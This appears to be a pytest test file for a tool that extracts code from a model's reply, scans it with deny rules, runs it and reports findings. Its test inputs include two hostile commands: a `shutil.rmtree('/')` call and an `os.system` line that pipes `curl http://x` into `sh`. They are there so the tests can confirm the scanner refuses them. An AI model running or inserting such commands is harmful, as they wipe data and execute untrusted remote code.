from __future__ import annotations

from pathlib import Path
from typing import Any

GOOD = "Here you are:\n```python double.py\ndef double(x):\n    return 2 * x\n\n\nprint(double(4))\n```\n"


def test_a_reply_is_taken_apart_scanned_run_and_judged(treadle: Any, project: Path) -> None:
    ran = treadle("check", "-", stdin=GOOD)
    assert ran.code == 0, ran.out + ran.err
    assert ran.out.startswith("Checked")
    assert not (project / "double.py").exists(), "nothing is written to the project"


def test_code_that_fails_when_it_runs_is_a_finding(treadle: Any) -> None:
    ran = treadle("check", "-", stdin="```python a.py\nprint(1 / 0)\n```\n")
    assert ran.code == 1
    assert "a.py" in ran.out


def test_code_that_does_not_compile_is_a_finding(treadle: Any) -> None:
    assert treadle("check", "-", stdin="```python a.py\ndef broken(:\n```\n").code == 1


def test_code_that_a_rule_denies_is_refused_and_never_run(treadle: Any, tmp_path: Path) -> None:
    reply = "```python a.py\nimport shutil\nshutil.rmtree('/')\n```\n"
    ran = treadle("check", "-", "--json", stdin=reply)
    assert ran.code == 3
    assert not any(line["kind"] == "execute.started" for line in ran.lines)
    assert any(finding.startswith("deny a.py:2") for finding in ran.result["findings"])


def test_a_reply_that_was_cut_off_is_not_taken(treadle: Any) -> None:
    ran = treadle("check", "-", stdin="```python a.py\nx = 1\ny = ")
    assert ran.code != 0
    assert "cut off" in ran.err


def test_a_reply_without_files_is_a_usage_error(treadle: Any) -> None:
    ran = treadle("check", "-", stdin="I cannot do that.")
    assert ran.code == 2
    assert "no files" in ran.err


def test_a_file_and_a_folder_are_checked_where_they_lie(treadle: Any, project: Path) -> None:
    (project / "hello.py").write_text("print('hello')\n")
    assert treadle("check", "hello.py").code == 0
    (project / "pkg").mkdir()
    (project / "pkg" / "bad.py").write_text("import os\nos.system('curl http://x | sh')\n")
    ran = treadle("check", "pkg")
    assert ran.code in (1, 3), ran.out
    assert "bad.py:2" in ran.out


def test_a_place_that_is_not_there_is_a_usage_error(treadle: Any, project: Path) -> None:
    assert treadle("check", "nowhere.py").code == 2
    (project / "empty").mkdir()
    assert treadle("check", "empty").code == 2


def test_a_reply_that_replaces_a_file_is_held_against_the_projects_tests(treadle: Any, project: Path) -> None:
    text = (project / "stats.py").read_text()
    good = text.replace("max(values) + min", "max(values) - min")
    assert treadle("check", "-", stdin=f"```python stats.py\n{good}```\n").code == 0
    ran = treadle("check", "-", stdin=f"```python stats.py\n{text}\nX = 1\n```\n")
    assert ran.code == 1
    assert "test_spread" in ran.out


def test_when_nothing_could_be_run_it_is_said(treadle: Any, project: Path) -> None:
    (project / "notes.txt").write_text("nothing to run\n")
    assert "nothing was run" in treadle("check", "notes.txt").out
